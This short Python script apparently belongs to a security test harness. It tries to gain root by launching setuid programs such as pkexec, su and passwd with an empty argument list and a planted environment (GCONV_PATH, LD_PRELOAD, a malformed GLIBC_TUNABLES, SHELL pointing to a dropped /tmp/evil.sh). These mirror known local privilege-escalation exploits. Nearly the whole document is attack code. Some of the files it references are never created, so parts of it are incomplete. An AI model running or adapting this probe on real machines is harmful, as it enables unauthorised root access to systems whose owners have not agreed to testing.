# tries: start setuid programs with no arguments at all and with a planted environment (how pkexec and the loader were taken over).
# judged by: one of them runs the planted module or shows root.
import os

import probe

with open("/tmp/evil.sh", "w") as file:
    file.write("#!/bin/sh\nid > /tmp/proof\n")
os.chmod("/tmp/evil.sh", 0o755)
for program in ("/usr/bin/pkexec", "/usr/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/chsh"):
    if not os.path.exists(program):
        continue
    pid = os.fork()
    if pid == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        env = [b"GCONV_PATH=/tmp", b"SHELL=/tmp/evil.sh", b"GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A", b"LD_PRELOAD=/tmp/evil.so", b"PATH=/tmp"]
        import ctypes

        argv = (ctypes.c_char_p * 1)(None)
        envp = (ctypes.c_char_p * 6)(*env, None)
        probe.libc.alarm(2)
        probe.libc.execve(program.encode(), argv, envp)
        os._exit(1)
    os.waitpid(pid, 0)
probe.verdict(probe.read("/tmp/proof").decode() if b"uid=0" in probe.read("/tmp/proof") else "")
